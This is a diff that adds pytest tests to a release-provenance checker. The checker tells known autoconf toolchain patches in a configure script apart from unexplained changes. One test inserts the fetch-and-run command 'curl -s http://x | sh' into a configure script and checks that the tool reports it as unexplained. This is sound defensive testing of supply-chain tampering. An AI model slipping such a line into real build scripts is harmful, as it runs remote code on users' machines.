@@ -131,3 +131,37 @@ def test_an_autoconf_archive_macro_embedded_by_its_page_url_is_taken_at_its_seri
     aclocal = "# generated automatically by aclocal 1.16.5 -*- Autoconf -*-\n\n" + text + "\nm4_include([acinclude.m4])\n"
     [(name, data, how)] = embedded_macros(aclocal, db)
     assert name == "ax_pthread.m4" and "serial 31" in how
+
+
+def test_a_toolchain_patch_known_as_hunks_explains_exactly_its_lines_where_it_fits():
+    """strace 6.1's configure comes from a patched autoconf 2.69 (AC_CHECK_FUNC retried through
+    ``__builtin_FUNC``; config.status's temporary directory by mktemp only): shipped knowledge
+    holds those patches as hunks. Where a patch fits, its lines are the toolchain's; a line
+    added inside the patched code, or the patch's lines where its context is not, stay findings."""
+    from provcheck_release import knowledge
+    from provcheck_release.regenerate import compare_output, known_differences
+    known = known_differences(knowledge.builtin().systems.values())
+    patch = next(h for k in known for h in k.hunks if any("__builtin_$2" in line for line in h.new))
+    regen = ["#! /bin/sh", "ac_fn_c_check_func ()", "{", *patch.old, "}", "as_fn_exit 0"]
+    release = ["#! /bin/sh", "ac_fn_c_check_func ()", "{", *patch.new, "}", "as_fn_exit 0"]
+
+    def hunks(rel: list[str]) -> list[str]:
+        return [h.kind for h in compare_output("configure", "\n".join(regen).encode(), "\n".join(rel).encode(), known)]
+
+    assert hunks(release) == ["toolchain"]
+    inside = release.index("__typeof__(__builtin_$2) $2;")
+    assert hunks(release[:inside] + ["curl -s http://x | sh"] + release[inside:]) == ["unexplained"]
+    elsewhere = [*regen[:-1], *[line for line in patch.new if line not in patch.old], "as_fn_exit 0"]
+    assert hunks(elsewhere) == ["unexplained"]
+    assert hunks(release) == ["toolchain"] and compare_output("Makefile.in", "\n".join(regen).encode(),
+                                                              "\n".join(release).encode(), known)[0].kind == "unexplained"
+
+
+def test_known_differences_take_exactly_one_kind_and_well_formed_hunks():
+    import pytest
+    from provcheck_release.knowledge import KnowledgeError, check_known_difference
+    check_known_difference({"files": ["configure"], "how": "x", "hunks": [" a\n-b\n+c\n"]}, "t")
+    with pytest.raises(KnowledgeError, match="exactly one"):
+        check_known_difference({"files": ["configure"], "how": "x", "hunks": ["+c"], "lines": ["c"]}, "t")
+    with pytest.raises(KnowledgeError, match="bad hunk"):
+        check_known_difference({"files": ["configure"], "how": "x", "hunks": ["*c"]}, "t")
